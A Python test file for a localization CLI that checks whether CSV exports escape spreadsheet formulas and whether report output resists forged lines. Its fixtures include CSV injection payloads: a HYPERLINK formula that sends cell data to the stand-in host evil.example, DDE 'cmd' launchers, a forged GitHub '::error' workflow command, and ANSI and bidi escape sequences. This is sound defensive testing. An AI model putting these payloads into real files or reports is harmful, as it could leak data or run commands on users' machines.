"""Issue 11, cases 13 and 14: CSV cells a spreadsheet would run, report lines that forge others."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from localize.cli import main
from localize.glossary import load_glossary
from localize.io.readers import read_records

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "'=already quoted",
    "''=twice",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_glossary_export_escapes_formulas_and_import_reads_them_back(
    runner: CliRunner, tmp_path: Path
) -> None:
    glossary = tmp_path / "g.yaml"
    glossary.write_text(
        "entries:\n"
        + "".join(
            f"  - id: f{i}\n    note: {json.dumps(f)}\n    terms:\n"
            f"      en: {json.dumps(f)}\n      zh-Hans: 公式{i}\n"
            for i, f in enumerate(FORMULAS)
        ),
        "utf-8",
    )
    out = tmp_path / "x.csv"
    result = runner.invoke(main, ["glossary", "export", str(glossary), "-o", str(out)])
    assert result.exit_code == 0, result.output
    written = cells(out.read_text("utf-8"))
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0" in written and "'''=twice" in written
    again = load_glossary(out)
    assert {e.id: (e.terms_in("en")[0].text, e.note) for e in again} == {
        f"f{i}": (f, f) for i, f in enumerate(FORMULAS)
    }


def test_run_csv_output_escapes_posts_and_check_reads_them_back(
    runner: CliRunner, tmp_path: Path
) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text(
        "".join(json.dumps({"id": f"p{i}", "text": f}) + "\n" for i, f in enumerate(FORMULAS)),
        "utf-8",
    )
    out = tmp_path / "o.csv"
    tw = "weibo-zh-tw"
    result = runner.invoke(main, ["run", tw, str(src), "-o", str(out)])
    assert result.exit_code in (0, 1), result.output
    assert not [c for c in cells(out.read_text("utf-8")) if c[:1] in ("=", "+", "-", "@")]
    texts = [r.text for r in read_records([str(out)])]  # what `localize check o.csv` reads
    assert texts == FORMULAS


def test_glossary_suggest_escapes_what_anyone_can_post(runner: CliRunner, tmp_path: Path) -> None:
    corpus = tmp_path / "posts.jsonl"
    post = '=HYPERLINK("http://evil.example") 枫叶之国的新词汇 枫叶之国的新词汇'
    corpus.write_text(
        "".join(json.dumps({"id": str(i), "text": post}) + "\n" for i in range(3)), "utf-8"
    )
    out = tmp_path / "c.csv"
    result = runner.invoke(main, ["glossary", "suggest", str(corpus), "-o", str(out)])
    assert result.exit_code == 0, result.output
    written = cells(out.read_text("utf-8"))
    assert any(c.startswith("'=[HYPERLINK]") for c in written)
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]


FORGED = "ok\n::error file=.github/workflows/ci.yml,line=1::pwned\nsrc.jsonl:9: x: [fake] error"


def _check(runner: CliRunner, tmp_path: Path, fmt: str) -> str:
    src = tmp_path / "run.jsonl"
    src.write_text(
        json.dumps(
            {"id": FORGED + "\x1b[2J\x1b[31m\u202e", "text": "去多伦多", "result": "去多伦多"}
        )
        + "\n",
        "utf-8",
    )
    result = runner.invoke(
        main, ["check", str(src), "--target-locale", "en", "-f", fmt, "--fail-on", "never"]
    )
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_an_id_cannot_forge_report_lines_or_workflow_commands(
    runner: CliRunner, tmp_path: Path, fmt: str
) -> None:
    report = _check(runner, tmp_path, fmt)
    lines = report.splitlines()
    assert len(lines) >= 2  # findings and the summary
    assert not [line for line in lines if line.startswith("::error file=.github")]
    assert not [line for line in lines if line.startswith("src.jsonl:9")]
    assert not any(ch in report for ch in "\x1b\u202e\r")
    assert "\\x1b[2J" in report
    for line in lines[:-1]:
        assert line.startswith(f"{tmp_path / 'run.jsonl'}:1: " if fmt == "text" else "::")
